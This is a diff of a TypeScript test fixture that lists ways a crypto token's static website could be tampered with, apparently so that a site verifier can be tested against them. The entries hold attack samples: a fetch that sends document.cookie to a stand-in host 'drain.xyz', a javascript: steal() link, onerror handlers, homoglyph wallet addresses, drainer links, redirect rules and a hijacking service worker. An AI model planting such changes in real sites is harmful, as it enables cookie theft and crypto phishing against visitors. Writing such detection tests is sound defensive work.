@@ -1,135 +1,125 @@
 import { madeUpAddress } from '../../../test-support/launch-site';
 
-/** Gives the new bytes of a file. */
-type Change = (bytes: Buffer, mint: string) => Buffer;
+/** What was done, to which file, and how the file's text changes. A new file has none before. */
+type Tampering = readonly [deed: string, file: string, change: (text: string, mint: string) => string];
 
 const THIEF = madeUpAddress('thief');
+const SOL = 'So11111111111111111111111111111111111111112';
 
-/** A change of a text. It throws where the text stays the same. */
-function text(change: (text: string, mint: string) => string): Change {
-  return (bytes, mint) => {
-    const before = bytes.toString();
-    const after = change(before, mint);
-    if (after === before) throw new Error('This tampering changes nothing: the file has another form now.');
-    return Buffer.from(after);
-  };
-}
-
-const replace = (from: string | RegExp, to: string) => text((page) => page.replace(from, to));
-const added = (html: string) => replace('</body>', `${html}</body>`);
-const appended = (code: string) => text((script) => `${script}\n${code}`);
-/** A change of the address where it stands between two other texts. */
-const address = (before: string, after: string, change: (mint: string) => string) =>
-  text((page, mint) => page.replace(`${before}${mint}${after}`, `${before}${change(mint)}${after}`));
-
-const withInTheMiddle = (character: string) => (mint: string) =>
-  `${mint.slice(0, 20)}${character}${mint.slice(21)}`;
-const oneOff = (mint: string) => withInTheMiddle(mint[20] === 'x' ? 'y' : 'x')(mint);
-const sameEnds = (mint: string) => `${mint.slice(0, 5)}${THIEF.slice(5, 38)}${mint.slice(38)}`;
-const sellTheToken = (page: string, mint: string) =>
-  page.replace(
-    new RegExp(`sell=\\w+&(?:amp;)?buy=${mint}`),
-    `sell=${mint}&amp;buy=So11111111111111111111111111111111111111112`,
-  );
+const replace = (from: string | RegExp, to: string) => (text: string) => text.replace(from, to);
+const added = (html: string) => replace('</main>', `</main>${html}`);
+const inHead = (html: string) => replace('<head>', `<head>${html}`);
+const appended = (code: string) => (script: string) => `${script}\n${code}`;
+/** One character of the address, where it stands between two other texts. */
+const oneOff =
+  (before: string, after: string, to = 'x') =>
+  (text: string, mint: string) =>
+    text.replace(`${before}${mint}${after}`, `${before}${mint.slice(0, 20)}${to}${mint.slice(21)}${after}`);
 
 const page = 'index.html';
 const pageData = 'page-data/index/page-data.json';
 const script = 'app.js';
 
-/**
- * Ways to put another address, another place or other code on the site: what was done, to which file, and how. `app.js`
- * stands for the file of that name and its hash.
- */
-export const tamperings: readonly [deed: string, file: string, change: Change][] = [
-  ['one character of the shown address', page, address('>', '<', oneOff)],
-  ['one character of what the button copies', page, address('data-copy="', '"', oneOff)],
-  ['one character in the buy link', page, address('buy=', '', oneOff)],
-  ['one character in the explorer link', page, address('explorer.calmbiscuit.xyz/url/', '', oneOff)],
-  ['one character in the page data', pageData, address('', '', oneOff)],
-  ['another address in a script', script, appended(`var a="${THIEF}"`)],
-  [
-    'another address behind escapes in a script',
-    script,
-    appended(`var a="\\u00${THIEF.charCodeAt(0).toString(16)}${THIEF.slice(1)}"`),
-  ],
-  ['a look-alike with the same ends', page, address('>', '<', sameEnds)],
-  ['a look-alike with a letter of another script', page, address('>', '<', withInTheMiddle('\u043e'))],
-  ['a look-alike with a zero', page, address('>', '<', withInTheMiddle('0'))],
-  [
-    'the address as character references',
-    page,
-    address('>', '<', () => `&#${THIEF.charCodeAt(0)};${THIEF.slice(1)}`),
-  ],
-  [
-    'an address in a picture’s text',
-    'share.png',
-    (bytes) => Buffer.concat([bytes, Buffer.from(` ${THIEF} `)]),
-  ],
+/** What the promises of the source show to be wrong. `app.js` stands for the file of that name and its hash. */
+export const broken: readonly Tampering[] = [
+  ['one character of the shown address', page, oneOff('>', '<')],
+  ['a zero in the shown address', page, oneOff('>', '<', '0')],
+  ['a letter of another script in the shown address', page, oneOff('>', '<', '\u043e')],
+  ['one character of what the button copies', page, oneOff('data-copy="', '"')],
+  ['one character in the buy link', page, oneOff('buy=', '')],
+  ['one character in the explorer link', page, oneOff('explorer.calmbiscuit.xyz/url/', '')],
+  ['one character in the page data', pageData, oneOff('', '')],
   ['the buy link leads to another exchange', page, replace('href="https://swap.', 'href="https://svvap.')],
-  ['the buy link sells the token', page, text(sellTheToken)],
+  [
+    'the buy link sells the token',
+    page,
+    (text, mint) => text.replace(/sell=\w+&amp;buy=\w+/, `sell=${mint}&amp;buy=${SOL}`),
+  ],
+  [
+    'the buy link leads to the explorer',
+    page,
+    (text, mint) =>
+      text.replace(/href="https:\/\/swap\.[^"]+"/, `href="https://explorer.calmbiscuit.xyz/url/${mint}"`),
+  ],
   ['the buy link in the page data', pageData, replace('https://swap.', 'https://swap.calmbiscuit.xyz.evil.')],
   [
     'a social link in the page data',
     pageData,
     replace(/https:\/\/socials\.[^"]+/, 'https://socials.calmbiscuit.xyz/drainer'),
   ],
-  ['a link is added', page, added('<a href="https://claim-biscuit.xyz">claim</a>')],
+  ['a link is added', page, added('<a href="https://claim-biscuit.xyz">1</a>')],
   [
     'a link to a known host with another path',
     page,
-    added('<a href="https://socials.calmbiscuit.xyz/drainer">claim</a>'),
+    added('<a href="https://socials.calmbiscuit.xyz/drainer">1</a>'),
   ],
-  ['a script is added to the page', page, added('<script>document.title="x"</script>')],
-  ['a script from another host', page, added('<script src="https://cdn-biscuit.xyz/a.js"></script>')],
-  ['a script from the site’s own files', page, added('<script src="/deck/share.js"></script>')],
+  ['a link without a scheme', page, added('<a href="//claim-biscuit.xyz">1</a>')],
+  ['a link behind character references', page, added('<a href=" java&#x73;cript:steal()">1</a>')],
+  ['a link in a drawing', page, added('<svg><a xlink:href="https://claim-biscuit.xyz" href="#home"/></svg>')],
+  ['a link on a picture', page, added('<map name="m"><area href="https://claim-biscuit.xyz"></map>')],
+  ['a link that tells another host', page, replace('<a ', '<a ping="https://claim-biscuit.xyz" ')],
   [
-    'the start-up script does more',
+    'a button that sends something',
     page,
-    replace(
-      '(function beforeHydration(',
-      '(function beforeHydration(){fetch("/x")})();(function beforeHydration(',
-    ),
+    replace('<button ', '<button formaction="https://claim-biscuit.xyz" '),
   ],
-  ['a script in an attribute', page, replace('<img ', '<img onerror="steal()" ')],
-  ['a script in a link', page, added('<a href=" java&#x73;cript:steal()">claim</a>')],
+  ['a form', page, added('<form><input></form>')],
   ['a frame over the page', page, added('<iframe src="/deck/share.png"></iframe>')],
-  ['a form', page, added('<form><input name="seed"></form>')],
-  ['a redirect', page, replace('<head>', '<head><meta http-equiv="refresh" content="0;url=/deck/x">')],
-  ['a base element that turns every address', page, replace('<head>', '<head><base href="/x/">')],
+  ['a foreign object in a drawing', page, added('<svg><foreignObject><p>1</p></foreignObject></svg>')],
+  ['a redirect', page, inHead('<meta HTTP-EQUIV="Refresh" content="0;url=/deck/x">')],
+  [
+    'a redirect without scripts',
+    '404.html',
+    inHead('<noscript><meta http-equiv=refresh content=0></noscript>'),
+  ],
+  ['a base element that turns every address', page, inHead('<base href="/x/">')],
+  ['a script in an attribute', page, replace('<img ', '<img onerror="steal()" ')],
+  ['a script from another host', page, inHead('<script src="https://cdn-biscuit.xyz/a.js"></script>')],
+  ['a picture from another host', page, replace(/srcset="/i, 'srcset="https://track.xyz/a.png 1w, ')],
+  ['a changed word', page, replace(/(<h3[^>]*>)[^<]+/, '$1Airdrop')],
+  ['a changed word for screen readers', page, replace(/ alt="[^"]+"/, ' alt="Send SOL"')],
+  ['a changed word in the description', page, replace(/(name="description" content=")[^"]+/, '$1Airdrop')],
+  ['an added sentence', page, added(`<p>Send SOL to ${THIEF}</p>`)],
+  ['an added sentence on the 404 page', '404.html', added('<p>Claim here</p>')],
+  ['a paragraph is taken out', page, replace(/<section[^>]+about-heading.+?<\/section>/s, '')],
+  ['a changed word in the page data', pageData, replace(/"heading":"[^"]+"/, '"heading":"Airdrop"')],
   [
     'another home in the canonical link',
     page,
-    replace(/rel="canonical" href="[^"]+"/, 'rel="canonical" href="https://calmbiscuit.xyz/"'),
+    replace(/rel="canonical" href="[^"]+"/, 'rel="canonical" href="https://x.xyz/"'),
   ],
-  [
-    'another profile in the structured data',
-    page,
-    replace('"sameAs":["', '"sameAs":["https://socials.calmbiscuit.xyz/other","'),
-  ],
-  ['a script of the page asks another host', script, appended('fetch("https://drain.xyz/"+document.cookie)')],
-  ['the same without a scheme', script, appended('fetch("//drain.xyz/"+document.cookie)')],
-  ['the same by WebSocket', script, appended('new WebSocket("wss://drain.xyz")')],
-  [
-    'a picture from another host in the styles',
-    page,
-    replace('</style>', 'main{background:url(https://track.xyz/a.png)}</style>'),
-  ],
-  ['a script in a drawing', 'icon.svg', replace('</svg>', '<script>steal()</script></svg>')],
+  ['another profile in the structured data', page, replace('"sameAs":["', '"sameAs":["https://x.xyz","')],
   ['another sitemap', 'robots.txt', replace(/Sitemap: .*/, 'Sitemap: https://other.xyz/sitemap.xml')],
   [
     'another contact for security reports',
     '.well-known/security.txt',
-    replace(/Contact: .*/, 'Contact: https://other.xyz/'),
+    replace(/Contact: .*/, 'Contact: https://x.xyz/'),
   ],
-  ['a page that the build did not write', 'airdrop.html', () => Buffer.from(`<p>Send SOL to ${THIEF}`)],
-  ['the compressed page alone', 'index.html.br', () => Buffer.from('not what the page says')],
-  ['a source map', script, appended('//# sourceMappingURL=app.js.map')],
-  ['a path of somebody’s machine', script, appended('// /home/captain/biscuit/src/app.tsx')],
-  ['a secret key', script, appended('var k="sb_secret_0123456789abcdef"')],
-  ['another share picture', 'share.png', (bytes) => Buffer.concat([bytes, Buffer.alloc(1)])],
+  ...['airdrop.html', 'airdrop/index.html', 'airdrop.htm', 'airdrop', 'airdrop.svg', '.env'].map(
+    (file): Tampering => ['a file that the site does not have', file, () => '<p>1'],
+  ),
+  ['rules for the host', '_redirects', () => '/* https://claim-biscuit.xyz 302'],
+  ['rules for the host', '_headers', () => '/*\n  Refresh: 0;url=https://claim-biscuit.xyz'],
+  ['a service worker', 'sw.js', () => 'addEventListener("fetch", steal)'],
+  ['the compressed page alone', 'index.html.br', () => 'not what the page says'],
+];
+
+/** What keeps every promise in the pages: code, styles and pictures can do anything. */
+export const unseen: readonly Tampering[] = [
+  ['another address in a script', script, appended(`var a="${THIEF}"`)],
   [
-    'an address that a script puts together from pieces',
+    'code that joins an address from pieces',
     script,
-    appended(`var a="${THIEF.slice(0, 20)}"+"${THIEF.slice(20)}"`),
+    appended(`var a="${THIEF.slice(0, 9)}"+"${THIEF.slice(9)}"`),
   ],
+  ['code that asks another host', script, appended('fetch("https://drain.xyz/"+document.cookie)')],
+  ['a script is added to the page', page, inHead('<script>document.title="x"</script>')],
+  [
+    'the start-up script does more',
+    page,
+    replace('(function beforeHydration(', 'steal();(function beforeHydration('),
+  ],
+  ['an address that a style writes', page, replace('</style>', `code::after{content:"${THIEF}"}</style>`)],
+  ['a text of the site in another place', page, added('<p>1</p>')],
+  ['another picture', 'share.png', appended('')],
 ];
